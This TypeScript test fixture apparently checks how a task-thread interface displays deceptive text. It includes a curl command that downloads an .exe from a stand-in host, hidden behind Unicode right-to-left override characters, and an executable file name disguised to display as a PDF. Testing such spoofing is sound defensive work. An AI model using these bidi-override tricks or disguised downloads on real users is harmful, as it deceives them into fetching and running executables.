// What would read as something else than it is, wherever a thread shows it.
import type { NoticeView } from '../src/lib/attention';
import type { Item } from '../src/lib/view';
import { check, message, MINUTE, note, NOW, outcome, step, task } from './pieces';

const TURNED = 'curl -s https://example.com/\u202etxt.exe\u202c -o x';
const FILE = 'offer-\u202efdp.exe';

export function turned(): Item[] {
  const steps = [step('1', 'command', `Run ${TURNED}`, 'denied', `${TURNED}\nnot allowed`), step('2', 'edit', `Edit ${FILE}`), step('3', 'say', `Now \u202eesrever`)];
  const denied = outcome({
    code: 'denied',
    verified: false,
    headline: `it was not allowed to run \`${TURNED}\``,
    denied: [TURNED],
    summary: `I wanted to run \`${TURNED}\`, and \u202eesrever.`,
    checks: [check({ command: TURNED, status: 'failed', exit: 1, output: `\u001b[31mnot ok\u001b[0m ${TURNED}` })],
  });
  return [
    message('b1', 9 * MINUTE, `!${TURNED}`, { files: [{ id: 'f1', name: FILE, media: 'application/pdf', size: 48_200 }] }),
    note('b2', 8 * MINUTE, `\`${FILE}\` was sent.`),
    task('b3', 61, TURNED, 7 * MINUTE, { state: 'failed', steps, outcome: denied }),
    message('b4', 6 * MINUTE, 'أضف اختبارات إلى src/parser.ts، ثم شغّل npm test.'),
    task('b5', 62, 'أضف اختبارات إلى src/parser.ts، ثم شغّل npm test.', 5 * MINUTE, { state: 'done', outcome: outcome({ headline: 'الاختبارات أضيفت إلى `src/parser.ts` وكلها تنجح.', summary: 'أضفت **ثلاثة** اختبارات إلى `src/parser.ts`.', checks: [check()] }) }),
    task('b6', 63, TURNED, 4 * MINUTE, { startedAt: NOW, canStop: true, steps, writing: `I go on with ${TURNED}` }),
  ];
}

export const TURNED_NOTICES: NoticeView[] = [{ id: 'x9', seq: 90, at: NOW - MINUTE, title: `${TURNED}: failed`, body: `it was not allowed to run ${TURNED}`, taskId: 'b3', read: false }];
